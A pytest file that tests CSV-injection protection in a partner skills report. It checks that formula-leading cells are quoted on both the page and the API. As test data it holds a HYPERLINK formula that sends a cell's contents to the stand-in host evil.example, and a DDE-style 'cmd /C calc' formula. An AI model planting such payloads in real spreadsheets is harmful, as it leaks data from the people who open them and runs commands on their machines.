"""PC-11, issue 16 finding 1: the skills report CSV writes a cell a spreadsheet would run as a formula as text
(OWASP "CSV Injection": a leading =, +, -, @, tab or carriage return gets a single quote in front), on the page and
in the API, which share one writer (partners.report_csv.stream, certlink.csvsafe)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from certlink.clock import clock_advance
from certlink.csvsafe import FORMULA_STARTS, safe_cell
from partners.models import PartnerCredit
from partners.services.links import mcid_link
from tests.partners.conftest import DAY0, admin_of
from tests.partners.test_pages import signed_in

PAGE = "/partner/skills/?format=csv"
API = "/api/v1/partner/skills-report.csv"
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click") x'


def rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    assert response.status_code == 200, response.status_code
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode(), newline="")))


@pytest.fixture
def report(megan_at_a, megan_msa, megan_profile, megan_admin_cert):  # type: ignore[no-untyped-def]
    """Megan's credit in Contoso's report, with whatever legal name the test gave her profile first."""

    def arrive() -> None:
        mcid_link(user=megan_at_a, msa=megan_msa, now=DAY0)
        clock_advance(to=DAY0 + timedelta(days=11))

    return arrive


@pytest.fixture
def downloads(api_as, company_a):  # type: ignore[no-untyped-def]
    admin = admin_of(company_a)
    admin.account.must_change_password = False  # an admin who has chosen their own password
    admin.account.save(update_fields=["must_change_password"])
    page, api = signed_in(admin), api_as(admin.account)
    return lambda: (rows(page.get(PAGE)), rows(api.get(API)))


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_pc11_a_cell_that_starts_a_formula_gets_a_quote_in_front(start: str) -> None:
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("text", ["Megan", "", "a=b", "'=quoted already", " =space first", "2026-01-12", "42"])
def test_pc11_any_other_cell_is_written_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_pc11_issue16_a_formula_in_a_legal_name_reaches_the_page_and_api_csv_as_text(
    report, downloads, megan_profile
) -> None:  # type: ignore[no-untyped-def]
    megan_profile.legal_name = EVIL
    megan_profile.save(update_fields=["legal_name"])
    report()
    for table in downloads():
        assert table[1][3:5] == ["'" + EVIL.rpartition(" ")[0], "x"]


@pytest.mark.parametrize("start", FORMULA_STARTS, ids=["equals", "plus", "minus", "at", "tab", "carriage-return"])
def test_pc11_each_formula_start_is_neutralised_in_every_text_column_on_the_page_and_in_the_api(
    report, downloads, start
) -> None:  # type: ignore[no-untyped-def]
    report()
    formula = f"{start}cmd|' /C calc'!A0"
    PartnerCredit.objects.update(title=formula, first_name=formula, last_name=formula, personal_email=formula)
    for table in downloads():
        assert table[1][1] == table[1][3] == table[1][4] == table[1][5] == "'" + formula
        assert table[1][0] == "azure-administrator" and table[1][3 + 3] == "megan@contoso.example"


def test_pc11_the_page_and_the_api_write_the_same_rows(report, downloads) -> None:  # type: ignore[no-untyped-def]
    report()
    PartnerCredit.objects.update(first_name="@SUM(A1:A9)", last_name="-Bowen")
    page, api = downloads()
    assert page == api and len(page) == 2
